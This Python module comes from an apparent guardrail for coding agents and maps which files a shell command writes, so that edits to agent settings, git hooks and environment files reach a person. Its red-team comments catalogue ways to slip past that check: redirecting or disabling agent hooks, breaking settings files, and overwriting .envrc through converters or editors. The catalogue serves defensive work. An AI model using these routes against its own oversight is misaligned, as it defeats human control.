"""What a shell command writes: the files a program creates, changes, moves, deletes or re-modes, read from
its words (STYLE 16: one module for the family), for R3.7 (files that decide what runs later).

:func:`targets` answers for one view of a segment (wrappers already peeled, R4.8): a list of
``(path, kind)``. ``NAMED``: that path is written (a redirect target, ``tee``'s files, a copy's destination).
``TREE``: that path and everything below it may change (``rm -r``, a moved source, ``chmod -R``, an archive
extracted into it, ``git checkout -- .``). ``WHOLE``: the whole working tree may change, names unknown
(``git reset --hard``, ``git stash``, ``git apply``). A word that is not a literal location (``$X``) is
reported as it is; the caller decides (an unknown location is treated as protected: fail closed).

Over-approximation is deliberate: when unsure whether a word is a written path (an option's value, a sed
script), it is reported; reporting too much only sends a command to a person.

SPEC readings (R3.7 is silent on them; the stricter reading where unsure):

- Names a command does not spell -- an archive extracted (``tar x``, ``unzip``, ``7z x``, ``cpio -i``,
  ``ar x``), a patch applied (``patch``, ``git apply``, ``git am``), a folder's contents copied (``cp -r
  src/. dst``, ``rsync src/ dst``), names fed by ``xargs``, ``find -exec`` or ``fd -x|-X`` -- land anywhere below
  their destination, so the destination counts as a ``TREE``; and the files an archiver deletes once it holds
  them (``tar --remove-files``, ``zip -m``, ``7z a -sdel``) go as trees.
- git rewrites of the working tree the agent chooses (``checkout``/``restore`` of paths, ``rm``, ``mv``,
  ``clean``, ``reset --hard|--merge|--keep``, ``stash``, ``apply``, ``am``, ``checkout -f``,
  ``checkout-index``, ``read-tree -u``, ``submodule``, ``init``) write; switching to or merging committed
  history (``checkout BRANCH``, ``switch``, ``pull``, ``merge``, ``rebase``) applies what a commit holds, and
  is left to the rules that govern those commands.
- Setting a package manager's or an agent's own configuration through its CLI (``npm config set``,
  ``yarn config set``, ``pip config set``, ``direnv allow``, ``pre-commit install``, ``husky``,
  ``claude mcp add``, ``gemini extensions install``, ``codex mcp add``) writes the protected file it keeps.
- A link whose target is a protected file (``ln -s .claude/settings.json x``, ``cp -l``) is a handle to
  write it later: the link's source counts as written, as a tree (a link to ``.github`` or
  ``site-packages`` is a handle to ``workflows/ci.yml`` or ``x.pth`` below it, names the table would no
  longer see whole).
- [beyond] red team: a text editor opened on a file writes it (keys can come through the input); a
  search-and-replace tool writes the paths it is given (or its folder); a dotfile manager (``chezmoi apply``,
  ``yadm``, ``stow``) writes the home folder, ``~/.claude`` included.
- [beyond] red team: an output option's letter ending a cluster of flags (`tree -fo F`, `gcc -co F`, `javac -gd
  DIR`) is read as getopt reads it, the letters before it as flags whatever the program makes of them; an
  initializer a node launcher runs by its package's name (`npx create-vite DIR`, `pnpm dlx create-next-app DIR`)
  may fill each folder its operands and `=` values name (which one is the package's own reading).
- Redirections are targets whatever their direction (the reader keeps ``<`` targets among them too):
  ``cat < .claude/settings.json`` is a person's to approve, ``cat .claude/settings.json`` stays ordinary.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence

from permissions.commands.environment import BUILD_TOOL_VARS, leading_assignments
from permissions.commands.git import _config_positionals, config_command
from permissions.commands.option_tables_files import TAR_NAMES
from permissions.commands.settings_writers import SETTINGS_WRITERS, settings_targets
from permissions.commands.uploads import table_operands

NAMED, TREE, WHOLE = 0, 1, 2

__all__ = [
    "AGENT_CLIS",
    "BUILD_WRITERS",
    "FORMATTERS",
    "find_expression_at",
    "finds_caches_only",
    "handed_words",
    "option_at",
    "NAMED",
    "TREE",
    "WHOLE",
    "WRITE_VERBS",
    "may_write",
    "FIRST_WRITERS",
    "targets",
]

Target = tuple[str, int]


def _operands(view: tuple[str, ...], values: frozenset[str] = frozenset()) -> list[str]:
    """The words that are not options (``--`` ends options); an option in ``values`` takes the next word."""
    out: list[str] = []
    done = False
    skip = False
    for w in view[1:]:
        if skip:
            skip = False
            continue
        if done or w[:1] != "-" or w == "-":
            out.append(w)
        elif w == "--":
            done = True
        elif w in values:
            skip = True
    return out


def _short_value(view: tuple[str, ...], k: int, shorts: str) -> tuple[str, str] | None:
    """The letter of ``shorts`` in the cluster of short options ``view[k]`` and its value: the rest of the word
    (`-oF`, `-qoF`) or the next word (`-o F`, `-qo F`, `-fJo F`); None when no letter of ``shorts`` comes
    before the first character that is not a letter. The letters before it are read as flags, whatever the
    program makes of them (fail closed: a value over-read only asks a person)."""
    w = view[k]
    for j in range(1, len(w)):
        c = w[j]
        if c in shorts:
            if j + 1 < len(w):
                return c, w[j + 1 :]
            return (c, view[k + 1]) if k + 1 < len(view) else None
        if not c.isalpha():
            return None
    return None


def _option_values(view: tuple[str, ...], shorts: str, longs: tuple[str, ...]) -> list[str]:
    """Values of the options ``-X VALUE`` / ``-XVALUE`` (X in ``shorts``, alone or ending a cluster) and
    ``--long VALUE`` / ``--long=VALUE``, before ``--``."""
    out: list[str] = []
    n = len(view)
    for k in range(1, n):
        w = view[k]
        if w == "--":
            break
        if w.startswith("--"):
            name, eq, value = w.partition("=")
            if name in longs:
                if eq:
                    out.append(value)
                elif k + 1 < n:
                    out.append(view[k + 1])
        elif w[:1] == "-" and len(w) > 1:
            found = _short_value(view, k, shorts)
            if found is not None:
                out.append(found[1])
    return out


def _has_flag(view: tuple[str, ...], letters: str, longs: tuple[str, ...] = (), valued: str = "") -> bool:
    """Whether a flag of ``letters`` (in a cluster) or ``longs`` comes before ``--``. ``valued``: the letters
    that take a value, the rest of their word (`unzip -d.git/hooks`: `.git/hooks` holds no flag `t`)."""
    for w in view[1:]:
        if w == "--":
            return False
        if w.startswith("--"):
            if w.partition("=")[0] in longs:
                return True
        elif w[:1] == "-":
            if not valued:
                if any(c in letters for c in w[1:]):
                    return True
                continue
            for c in w[1:]:
                if c in letters:
                    return True
                if c in valued:
                    break
    return False


def _base(path: str) -> str:
    return path.rstrip("/").rpartition("/")[2] or path


def _join(folder: str, name: str) -> str:
    return name if folder in ("", ".") else folder.rstrip("/") + "/" + name


_NETWORK_COPIERS = frozenset({"scp", "rsync"})


def _remote(word: str) -> bool:
    """``host:path`` / ``user@host:path`` (scp, rsync): a location on another machine."""
    colon = word.find(":")
    return colon > 0 and "/" not in word[:colon]


# -- the families -------------------------------------------------------------------------------------------

# Every operand is written (created, truncated, re-moded, or its tree changed).
# (red team: the line-ending converters rewrite their files in place, `dos2unix .envrc`)
_NAMED_OPERANDS = frozenset(
    {"tee", "touch", "truncate", "mkdir", "mkfifo", "mknod", "ed", "red", "ex", "sponge"}
    | {"dos2unix", "unix2dos", "mac2unix", "unix2mac"}
    | {"mkdirp", "make-dir", "make-dir-cli"}  # (npm's mkdir -p, `npx mkdirp .husky`)
)
_TREE_OPERANDS = frozenset(
    {
        "rm",
        "rmdir",
        "unlink",
        "shred",
        "srm",
        "trash",
        "trash-put",
        # the npm packages that delete (`npx rimraf .github`, `npx del-cli .claude`)
        "rimraf",
        "del-cli",
        # red team: the other deleters Brabo's vocabulary knows -- wipe's secure delete, rm-improved's `rip`
        # (to its graveyard), rmtrash, uutils' rm
        "wipe",
        "rip",
        "rmtrash",
        "uu-rm",
        # red team: and the other deleters and trash cans -- rm's guard (`safe-rm -rf .github`), gomi, rmw, GNOME's
        # older gio twins (`gvfs-trash`, `gvfs-rm`)
        "safe-rm",
        "gomi",
        "rmw",
        "gvfs-trash",
        "gvfs-rm",
        "chmod",
        "chown",
        "chgrp",
        "chattr",
        "chflags",
        "setfacl",
        "setfattr",
        "xattr",
    }
)
# The last operand is the destination (or ``-t DIR``); the others are sources. (red team: and the npm packages
# that copy, by their package's name or their command's, run from node_modules/.bin or a launcher: `npx cpy-cli
# x .husky`, `npx copyfiles x .husky`, `pnpm dlx ncp x .git/hooks`, `npx cpx 'src/*' .husky`)
_NODE_COPIERS = frozenset({"cpy", "cpy-cli", "copyfiles", "copyup", "ncp", "cpx", "cpx2"})
_COPIERS = (
    frozenset({"cp", "gcp", "mv", "gmv", "install", "ginstall", "ln", "gln", "rsync", "scp", "link", "ditto"})
    | _NODE_COPIERS
)
# red team: gawk's inplace extension (`gawk -i inplace '{...}' F`, `--include=inplace`) rewrites its files.
_AWKS_IN_PLACE = frozenset({"awk", "gawk"})
_IN_PLACE = frozenset({"sed", "gsed", "perl", "ruby"}) | _AWKS_IN_PLACE
_DECOMPRESSORS = frozenset({"gunzip", "bunzip2", "unxz", "unlzma", "unzstd", "uncompress", "zcat"})
_COMPRESSORS = frozenset({"gzip", "bzip2", "xz", "lzma", "zstd", "lz4", "pigz", "pbzip2", "brotli"})
_SUFFIXES = (".gz", ".tgz", ".bz2", ".xz", ".lzma", ".zst", ".lz4", ".br", ".z", ".Z")
_TARS = TAR_NAMES
_EXTRACTORS = (
    TAR_NAMES
    | frozenset({"unzip", "7z", "7za", "7zz", "7zr", "unrar", "cpio", "pax", "ar", "jar"})
    | frozenset({"bsdunzip"})  # red team: BSD's unzip
    | frozenset(
        # red team: the other unpackers (a Debian package's files, The Unarchiver, atool, cabinet files, a
        # SquashFS image) and the template fetchers that copy a repository's files into a folder (degit and its
        # forks default to the working folder): what they write is named by the archive, not the command.
        {"dpkg-deb", "unar", "aunpack", "atool", "cabextract", "unsquashfs", "degit", "tiged", "giget"}
    )
)
# Where each of those writes: (its destination options, short letters then long names; its default).
_UNPACKED_TO: dict[str, tuple[str, tuple[str, ...], str]] = {
    "unar": ("o", ("-output-directory", "--output-directory"), "."),
    "aunpack": ("X", ("--extract-to",), "."),
    "atool": ("X", ("--extract-to",), "."),
    "cabextract": ("d", ("--directory",), "."),
}
_PIP = frozenset({"pip", "pip3"})
_PYTHONS_PREFIX = ("python", "pypy")
# The coding agents' CLIs and where their configuration subcommands (`qwen mcp add`, `auggie mcp add`,
# `kiro-cli agent create`, `goose configure`) write, by default or with a scope flag (R3.7's table).
_AGENT_CLIS = {
    "claude": ".claude",
    "gemini": ".gemini",
    "codex": ".codex",
    "qwen": ".qwen",
    "opencode": "opencode.json",
    "kiro-cli": ".kiro/settings",
    "q": ".amazonq/mcp.json",
    "auggie": ".augment",
    "droid": ".factory",
    "goose": "~/.config/goose",
}
AGENT_CLIS = frozenset(_AGENT_CLIS)
_AGENT_CONFIG_SUBCOMMANDS = frozenset(
    {"mcp", "config", "configure", "plugin", "plugins", "extensions", "extension", "hooks", "agent", "agents"}
    | {"features"}  # red team: `codex features disable codex_hooks` writes config.toml
)
_PKG_CONFIG = {"npm": ".npmrc", "pnpm": ".npmrc", "yarn": ".yarnrc.yml", "bun": ".npmrc"}
_OUTPUT_VERBS = frozenset({"sort", "split", "csplit"})
# red team (R3.7): media and document converters, whose output is their last word (or `-o`'s value): `ffmpeg -i x -f
# data .envrc` and `convert x .envrc` write what their input holds to the file named, and were auto-approved.
_CONVERTERS = frozenset(
    {
        "ffmpeg",
        "avconv",
        "convert",
        "magick",
        "gm",
        "sox",
        "qpdf",
        "wkhtmltopdf",
        "wkhtmltoimage",
        "heif-convert",
    }
    | {
        "lame",
        "opusenc",
        "oggenc",
        "cwebp",
        "dwebp",
        "avifenc",
        "pngquant",
        "rsvg-convert",
        "pdftoppm",
        "pdftotext",
    }
)
# [beyond] R3.7: CLIs that write a file of R3.7's table when given one of these subcommands (hook managers
# install into .git/hooks; environment and package-manager CLIs keep their settings in the project).
_CONFIG_WRITERS: dict[str, tuple[frozenset[str], tuple[str, ...]]] = {
    "lefthook": (frozenset({"install", "uninstall", "add"}), (".git", "lefthook.yml")),
    "simple-git-hooks": (frozenset({"", "--uninstall"}), (".git",)),
    "overcommit": (frozenset({"--install", "--uninstall", "--sign", "-i"}), (".git", ".overcommit.yml")),
    "mise": (frozenset({"use", "u", "trust", "set", "config", "settings", "unuse", "rm"}), ("mise.toml",)),
    # (red team: mise's earlier name, still installed)
    "rtx": (frozenset({"use", "u", "trust", "set", "config", "settings", "unuse", "rm"}), (".rtx.toml",)),
    # (red team: `asdf global` writes the home folder's ~/.tool-versions, the same entry)
    "asdf": (frozenset({"local", "set", "global"}), (".tool-versions",)),
    "poetry": (frozenset({"config", "source"}), ("poetry.toml",)),
    "bundle": (frozenset({"config"}), (".bundle/config",)),
    "conda": (frozenset({"config"}), (".condarc",)),
    "mamba": (frozenset({"config"}), (".condarc", ".mambarc")),
    "micromamba": (frozenset({"config"}), (".condarc", ".mambarc")),
    "dotenv": (frozenset({"set", "unset"}), (".env",)),
    # red team: the other environment writers -- dotenvx's, devbox's (`generate direnv` writes .envrc), Flox's
    # manifest (hooks run on activation), mrm's and husky-init's presets (husky hooks, lint-staged's settings)
    "dotenvx": (frozenset({"set", "encrypt", "decrypt", "rotate"}), (".env",)),
    "devbox": (
        frozenset({"add", "rm", "remove", "init", "generate", "update", "global"}),
        ("devbox.json", ".envrc", ".devcontainer"),
    ),
    "flox": (
        frozenset({"init", "install", "i", "uninstall", "edit", "upgrade", "pull", "include"}),
        (".flox",),
    ),
    "mrm": (frozenset({"*"}), (".husky", ".lintstagedrc", ".git")),
    "husky-init": (frozenset({"*"}), (".husky", ".git")),
    # red team: the package manager corepack pins in the manifest (`corepack use yarn@URL`), run by every `yarn`
    # (`install -g`, `prepare --activate`: the default every later `yarn` or `pnpm` outside a pin runs)
    "corepack": (frozenset({"use", "up", "install", "prepare"}), ("package.json",)),
    # red team: more hook installers and environment initializers -- DVC's git hooks, rusty-hook's settings and
    # hooks, Trunk's settings (`.trunk/`) and git hooks, devenv's `.envrc`
    "dvc": (frozenset({"install"}), (".git",)),
    "rusty-hook": (frozenset({"init"}), (".rusty-hook.toml", ".git")),
    "trunk": (frozenset({"init", "git-hooks"}), (".trunk", ".git")),
    "devenv": (frozenset({"init"}), (".envrc", "devenv.nix", "devenv.yaml")),
}
# red team, R3.7: Brabo's own client writes the hook into an agent's settings -- `brabo hook install claude-code
# --url http://elsewhere --other allow` points the agent's hook at another server, or lets what no rule matches
# through (the settings file brabo_client/hook_install.py writes, by agent; `--print` writes nothing).
_BRABO_HOOK_FILES = {
    "claude-code": (".claude/settings.local.json", "~/.claude/settings.json"),
    "gemini-cli": (".gemini/settings.json", "~/.gemini/settings.json"),
    "codex": (".codex/hooks.json", "~/.codex/hooks.json"),
}
_BRABO_ANY_AGENT = tuple(f for files in _BRABO_HOOK_FILES.values() for f in files)


def _brabo_hook_install(verb: str, view: tuple[str, ...]) -> list[Target]:
    """`brabo hook install AGENT [--project DIR | --user] ...`: the agent's settings file (every agent's when
    the words do not say which: fail closed)."""
    if view[1:3] != ("hook", "install") or "--print" in view:
        return []
    agent = next((w for w in view[3:] if w in _BRABO_HOOK_FILES), None)
    files = _BRABO_HOOK_FILES[agent] if agent is not None else _BRABO_ANY_AGENT
    project = _option_values(view, "", ("--project",))
    out: list[Target] = [(f, NAMED) for f in files]
    out.extend((f"{p}/{f}", NAMED) for p in project for f in files if f[:1] != "~")
    return out


# red team: secret managers and hosting CLIs that pull a project's variables into an environment file
# (R3.7's `.env*`, `.envrc`): (the subcommand words, the file written when no operand names one, how many
# operands come before the file). `vercel env pull [FILE]`, `dotenv-vault pull [ENV] [FILE]`, `doppler secrets
# download [FILE]`; the ones naming their file in an option are in _OUTPUT_OPTIONS (op, infisical, chamber).
_PULLERS: dict[str, tuple[tuple[str, ...], str, int]] = {
    "vercel": (("env", "pull"), ".env.local", 0),
    "dotenv-vault": (("pull",), ".env", 1),
    "doppler": (("secrets", "download"), "doppler.json", 0),
}


def _pulled(verb: str, view: tuple[str, ...]) -> list[Target]:
    words, default, before = _PULLERS[verb]
    ops = [w for w in view[1:] if w[:1] != "-"]
    n = len(words)
    at = next(
        (k for k in range(len(ops) - n + 1) if tuple(ops[k : k + n]) == words), -1
    )  # past global options
    if at < 0 or "--no-file" in view:
        return []
    # every later operand may be the file (an option's value reads as one: `--format env .env`)
    return [(w, NAMED) for w in ops[at + n + before :]] or [(default, NAMED)]


# The writers read by their own function, by program.
def _composer_config_at(view: tuple[str, ...]) -> int:
    """Where composer's ``config`` stands (Symfony's console takes any unambiguous abbreviation of a command, in
    any case: ``conf``, ``CON``; ``co`` is also ``completion``), -1 when the line is not it."""
    for k, w in enumerate(view[1:], 1):
        if len(w) >= 3 and w[:1] != "-" and "config".startswith(w.lower()):
            return k
    return -1


def _composer_config(verb: str, view: tuple[str, ...]) -> list[Target]:
    """``composer config KEY VALUE`` (``scripts.x``, ``allow-plugins.*``, ``repositories.*`` ...), ``--unset``,
    ``--editor``, ``--json``/``--merge``: composer.json, whose scripts and plugins composer runs (the global
    file counts too: fail closed). ``--list`` and ``config KEY`` read."""
    at = _composer_config_at(view)
    if at < 0:
        return []
    rest = view[at + 1 :]
    operands = [w for w in rest if w[:1] != "-"]
    if (
        any(w in ("--unset", "-e", "--editor", "--json", "--merge", "--append") for w in rest)
        or len(operands) > 1
    ):
        return [("composer.json", NAMED)]
    return []


_OWN_WRITERS: dict[str, Callable[[str, tuple[str, ...]], list[Target]]] = {
    **dict.fromkeys(_PULLERS, _pulled),
    "brabo": _brabo_hook_install,
    "composer": _composer_config,
}


# [beyond] R3.7: clients whose configuration runs a program or chooses where data goes (the table's
# ``.aws/``, ``.kube/``, ``.docker/contexts/``), written by their own subcommand: (the subcommand, what it
# writes with besides set-*/delete-*/unset*/rename-*, the file it keeps). `aws configure` alone asks for values
# and writes them; its reads (`list`, `get`) and kubectl's (`view`, `get-contexts`, `use-context`: a context the
# file already holds) are not writes.
_CLIENT_CONFIG: dict[str, tuple[str, frozenset[str], str]] = {
    "aws": ("configure", frozenset({"import", "sso", "sso-session", "add-model", "-"}), "~/.aws/config"),
    "kubectl": ("config", frozenset({"edit"}), "~/.kube/config"),
    "docker": ("context", frozenset({"create", "update", "import", "rm", "remove"}), "~/.docker/contexts"),
    # red team: the other version control systems' settings (R3.7's table: .jj/, .hg/hgrc), written by `jj config
    # set|unset|edit` and by `hg config` told which file to edit (hg's -l/-g/--shared edit without -e).
    "jj": ("config", frozenset({"edit"}), "~/.config/jj/config.toml"),
    "hg": (
        "config",
        frozenset({"-e", "--edit", "-l", "--local", "-g", "--global", "--shared", "--non-shared"}),
        "~/.hgrc",
    ),
    # red team: Sapling reads hg's command line; its repository's settings are `.sl/config` (hooks run from it)
    "sl": (
        "config",
        frozenset({"-e", "--edit", "-l", "--local", "-g", "--global", "--shared", "--non-shared"}),
        ".sl/config",
    ),
}
_CURL_FILE_OPTIONS = (
    "--output",
    "--dump-header",
    "--cookie-jar",
    "--trace",
    "--trace-ascii",
    "--stderr",
    "--libcurl",
    "--etag-save",
    "--hsts",
    "--alt-svc",
    "--output-dir",
)
_GIT_WORKTREE = frozenset({"checkout", "restore", "rm", "mv", "clean"})
# red team: git's subcommands that write the file an option of theirs names (`git fast-export --export-marks=F`,
# `git credential-store --file F store`, `git maintenance register --config-file F`), besides `-o`/`--output`.
_GIT_FILE_OPTIONS: dict[str, tuple[str, ...]] = {
    "fast-export": ("--export-marks",),
    "credential-store": ("--file",),
    "maintenance": ("--config-file",),
}
# [beyond] R3.7, red team: programs that write the file an option names (`gpg -o F`, `pandoc -o F`, `xh -o F`,
# `aria2c -o F`), as (short letters, long names); openssl's options are single-dash words (`-out F`).
_OUTPUT_OPTIONS: dict[str, tuple[str, tuple[str, ...]]] = {
    "gpg": ("o", ("--output",)),
    "gpg2": ("o", ("--output",)),
    "age": ("o", ("--output",)),
    "rage": ("o", ("--output",)),
    "sops": ("", ("--output",)),
    "pandoc": ("o", ("--output",)),
    "iconv": ("o", ("--output",)),
    "xmllint": ("", ("--output",)),
    "xh": ("o", ("--output",)),
    "xhs": ("o", ("--output",)),
    "http": ("o", ("--output",)),
    "https": ("o", ("--output",)),
    "aria2c": ("o", ("--out",)),
    "base64": ("o", ("--output",)),  # (BSD and macOS)
    # red team: a lock export or a build's folder (`poetry export -o .envrc`, `poetry build --output DIR`)
    "poetry": ("o", ("--output",)),
    # red team: secret managers writing what they read into a file (`op inject -i tpl -o .envrc`)
    "op": ("o", ("--out-file", "--output")),
    "infisical": ("", ("--output-file",)),
    "chamber": ("o", ("--output-file",)),
    "secrethub": ("o", ("--out-file",)),
    # red team: the package managers' pack, named by its own option (`yarn pack -o .git/hooks/pre-commit`, yarn
    # 1's `--filename`, `pnpm pack --out .envrc`, `bun pm pack --filename F`; npm's and pnpm's folder options
    # are _PACKAGE_DIRS')
    "yarn": ("o", ("--out", "--filename")),
    "pnpm": ("", ("--out",)),
    "bun": ("", ("--filename",)),
    # ... the database clients' dump and script files (`pg_dump -f .envrc app`, `mysqldump -r F`, `mongodump
    # --archive=F`, `--out DIR`), and a base backup's data folder
    **dict.fromkeys(("pg_dump", "pg_dumpall", "pg_restore"), ("f", ("--file",))),
    **dict.fromkeys(("mysqldump", "mariadb-dump", "mysqlpump"), ("r", ("--result-file",))),
    "mongodump": ("o", ("--out", "--archive")),
    "pg_basebackup": ("D", ("--pgdata", "--waldir")),
    # ... and the key writers' files (`minisign -G -s F -p F`, its signature `-x F`)
    "minisign": ("spx", ()),
    # red team: a nested coding agent's log or last answer written to a file (Claude Code 2.1.332 `--debug-file
    # F`, Codex 0.171.0 `exec -o F` / `--output-last-message F`): over the agents' own settings, a file that no
    # longer parses is settings without hooks
    "claude": ("", ("--debug-file",)),
    "codex": ("o", ("--output-last-message",)),
}
# openssl's options are single-dash words (`-out F`); mkcert's are Go's flags (`-cert-file F`, `--cert-file=F`).
_SINGLE_DASH_OUTPUTS = {
    "openssl": frozenset({"-out", "-keyout"}),
    "mkcert": frozenset({"-cert-file", "-key-file", "-p12-file", "--cert-file", "--key-file", "--p12-file"}),
}
# ... rewrite the files they are given when told to (`yq -i '.a=1' F`, `sops -i -d F`), as (letters, long names).
_IN_PLACE_FLAGS: dict[str, tuple[str, tuple[str, ...]]] = {
    "yq": ("i", ("--inplace", "--in-place")),
    "sops": ("i", ("--in-place",)),
}
# ... write into the folder an option names (`aria2c -d .git/hooks URL`).
_DIR_OPTIONS: dict[str, tuple[str, tuple[str, ...]]] = {"aria2c": ("d", ("--dir",))}
# ... and, red team, the downloaders that name the file from the server's answer (its Content-Disposition) or
# the address's last part (`http --download URL`, `xh -d URL`, `aria2c URL`), as `curl -OJ`: a name the server
# chooses, anywhere in their folder (fail closed), unless an output option names it. (letters, longs) of the
# option that downloads; aria2c always does.
_SERVER_NAMED: dict[str, tuple[str, tuple[str, ...]]] = {
    **dict.fromkeys(("http", "https", "xh", "xhs"), ("d", ("--download",))),
    "aria2c": ("", ()),
}
# ... copy to the last operand: a container's or pod's file onto this machine (`docker cp c:/x F`), cmake's
# portable file commands (`cmake -E copy x F`).
_CONTAINER_COPIERS = frozenset({"docker", "podman", "nerdctl", "kubectl", "oc"})
_CMAKE_COPIES = frozenset(
    {"copy", "copy_if_different", "copy_directory", "copy_directory_if_different", "rename", "create_symlink",
     "create_hardlink"}
)  # fmt: skip
# red team: where `cmake --install` puts the programs it installs (`--prefix DIR`, or the prefix the build was
# configured with: `--install-prefix DIR`, `-DCMAKE_INSTALL_PREFIX=DIR`).
_CMAKE_PREFIX_STARTS = ("--prefix", "--install-prefix", "-DCMAKE_INSTALL_PREFIX", "CMAKE_INSTALL_PREFIX")


def _cmake_prefixes(view: tuple[str, ...]) -> list[Target]:
    out: list[Target] = []
    for k in range(1, len(view)):
        w = view[k]
        nxt = view[k + 1] if k + 1 < len(view) else ""
        if w in ("--prefix", "--install-prefix"):
            out.append((nxt, TREE))
        elif w.startswith(("--prefix=", "--install-prefix=")):
            out.append((w.partition("=")[2], TREE))
        elif w.startswith(_CMAKE_PREFIX_STARTS[2:]) or (
            w == "-D" and nxt.startswith(_CMAKE_PREFIX_STARTS[3])
        ):
            d = nxt if w == "-D" else w
            out.append((d.partition("=")[2], TREE))
    return out


_CMAKE_WRITES = frozenset({"remove", "rm", "remove_directory", "make_directory", "touch", "touch_nocreate"})
# [beyond] R3.7, red team: text editors, which write the files they are opened on -- a person at a terminal,
# or keys fed through the input (`printf ':%d\\nwq\\n' | vim F`, `nvim --headless F < keys`).
_EDITORS = frozenset(
    {"vi", "vim", "nvim", "gvim", "view", "rvim", "rview", "evim", "vimdiff", "nvi", "elvis", "vile", "nano",
     "rnano", "pico", "micro", "emacs", "emacs-nox", "mg", "jed", "joe", "jmacs", "jpico", "jstar", "ne", "kak",
     "hx", "helix", "mcedit", "zile", "jove", "dte", "vis"}
)  # fmt: skip
# ... search-and-replace tools that rewrite the files or trees they are given, in place: (how many words come
# before the paths, the flags without which they write nothing -- () when they always write --, the flags with
# which they write nothing, their options that take a value, the folder they rewrite when given no path).
_REPLACERS: dict[str, tuple[int, tuple[str, ...], tuple[str, ...], frozenset[str], str]] = {
    "sd": (2, (), ("-p", "--preview"), frozenset({"-n", "--max-replacements", "-f", "--flags"}), ""),
    "rpl": (2, (), ("--dry-run", "-s", "--simulate"), frozenset({"-x", "--match-suffix", "-e", "--encoding"}), ""),
    "fastmod": (2, (), (), frozenset({"-d", "--dir", "-e", "--extensions", "-g", "--glob", "--iglob"}), "."),
    "ruplacer": (2, ("--go",), (), frozenset({"-t", "--type", "-T", "--type-not", "-g", "--glob"}), "."),
    "comby": (
        2, ("-i", "-in-place"), (),
        frozenset({"-d", "-directory", "-f", "-templates", "-matcher", "-exclude", "-exclude-dir", "-rule",
                   "-extensions", "-timeout", "-jobs", "-sequential"}),
        ".",
    ),
    "ast-grep": (
        0, ("-U", "--update-all", "-i", "--interactive"), (),
        frozenset({"-p", "--pattern", "-r", "--rewrite", "-l", "--lang", "-c", "--config", "--selector",
                   "--strictness", "--globs", "-j", "--threads", "--debug-query", "--color", "--before", "-B",
                   "--after", "-A", "--context", "-C", "--inline-rules", "-f", "--filter", "--format"}),
        ".",
    ),
}  # fmt: skip
_REPLACERS["sg"] = _REPLACERS["ast-grep"]
# (red team: npm's `replace-in-file FROM TO FILES...`, `npx replace-in-file a b .envrc`)
_REPLACERS["replace-in-file"] = (2, (), ("--dry",), frozenset({"--configFile", "--encoding", "--ignore"}), "")
_REPLACERS["replace"] = (0, (), (), frozenset(), "")  # MySQL's: the files follow `--` (_replaced)
# ... programs that write the file an operand names: `python -m json.tool IN OUT`, `xxd -r IN OUT`, `script
# [-c cmd] FILE` (its typescript and its logs), `mktemp [-p DIR] TEMPLATE`, `ssh-keygen -f F` (F and F.pub),
# `uudecode` (the name comes from the input unless -o names it), dasel's `put`/`delete` (its -f file).
_OPERAND_WRITERS = frozenset({"xxd", "script", "mktemp", "ssh-keygen", "uudecode", "dasel"})
_XXD_VALUED = frozenset({"-c", "-cols", "-g", "-groupsize", "-l", "-len", "-s", "-seek", "-o", "-offset", "-n",
                         "-name"})  # fmt: skip
_SCRIPT_VALUED = frozenset({"-c", "--command", "-E", "--echo", "-m", "--logging-format", "-o", "--output-limit",
                            "-I", "--log-in", "-O", "--log-out", "-B", "--log-io", "-T", "--log-timing"})  # fmt: skip
# ... unpack an archive into a folder, default the working one: (the words that make them unpack -- () when
# they always do --, the options naming the folder). `python -m zipfile -e A DIR` and `-m tarfile -e A [DIR]`
# are read with the python family (_unpacked).
_UNPACKERS: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    "unar": ((), ("-o", "-output-directory")),
    "ark": (("-b", "--batch"), ("-o", "--destination")),
    "atool": (("-x", "--extract", "-X", "--extract-to"), ("-X",)),
    "aunpack": ((), ("-X", "--extract-to")),
    "dtrx": ((), ()),
    # red team: a shell archive is a script sh runs, writing where its lines say (`-d DIR` is only where it
    # starts): read as the working folder's tree
    "unshar": ((), ()),
    "ouch": (("decompress", "d"), ("-d", "--dir")),
    "bsdcpio": (("-i", "--extract", "-p", "--pass-through"), ()),
    # red team: more unpackers -- dpkg's own extraction (it hands `-x` to dpkg-deb), ripunzip, ALZ, Inno Setup's and
    # InstallShield's installers, xar, zpaq, dar, lrzip's tar wrapper, unarj and unzoo (they extract unless told to
    # list), p7zip (which unpacks with -d and otherwise packs a file and deletes it, as gzip does)
    "dpkg": (("-x", "--extract", "-X", "--vextract"), ()),
    "ripunzip": (("unzip-file", "unzip-uri"), ("-d", "--output-directory")),
    "unalz": ((), ("-d",)),
    "innoextract": ((), ("-d", "--output-dir")),
    "unshield": ((), ("-d",)),
    "xar": (("-x",), ("-C",)),
    "zpaq": (("x", "extract"), ()),
    "dar": (("-x", "--extract"), ("-R", "--fs-root")),
    "lrzuntar": ((), ()),
    "unarj": ((), ()),
    "unzoo": ((), ()),
    "p7zip": ((), ()),
}
# red team: the archivers whose first word is a key whose letter is the act (`rar x A`, `lha xw=DIR A`, `zoo -extract
# A`, `arc e A`): extracting when it is `x` or `e` -- into the working folder, or a folder an operand or the key
# names (read as the working folder's tree: the archive names the files).
_KEYED_UNPACKERS = frozenset({"rar", "unrar-free", "unace", "arj", "lha", "lhasa", "zoo", "arc"})
# red team: the patch appliers besides patch and git's -- each file a patch names is the patch's to choose, so what
# they apply (or take back) may rewrite any file of the tree, `.husky/pre-commit` and `.github/workflows/` included:
# per program, (the subcommands that apply patch files, take them back or shelve changes in the working tree, the
# options before the subcommand that take a value). Moving through committed history (StGit's push and pop of
# its commits) is left to the rules that govern it, as git's rebase is.
_PATCH_APPLIERS: dict[str, tuple[frozenset[str], frozenset[str]]] = {
    "quilt": (frozenset({"push", "pop", "fold", "delete"}), frozenset({"--quiltrc"})),
    "guilt": (frozenset({"push", "pop", "fold"}), frozenset()),
    "stg": (frozenset({"import", "fold"}), frozenset({"-C"})),  # (its push and pop move commits: git's history)
    "hg": (
        frozenset({"import", "patch", "qpush", "qpop", "qgoto", "qfold", "unshelve", "shelve"}),
        frozenset({"-R", "--repository", "--cwd", "--config", "--encoding", "--encodingmode", "--color",
                   "--pager"}),
    ),
    "svn": (frozenset({"patch"}), frozenset({"--username", "--password", "--config-dir", "--config-option"})),
    "bzr": (frozenset({"patch", "shelve", "unshelve"}), frozenset()),
    "brz": (frozenset({"patch", "shelve", "unshelve"}), frozenset()),
    "darcs": (frozenset({"apply"}), frozenset()),
    "pijul": (frozenset({"apply"}), frozenset()),
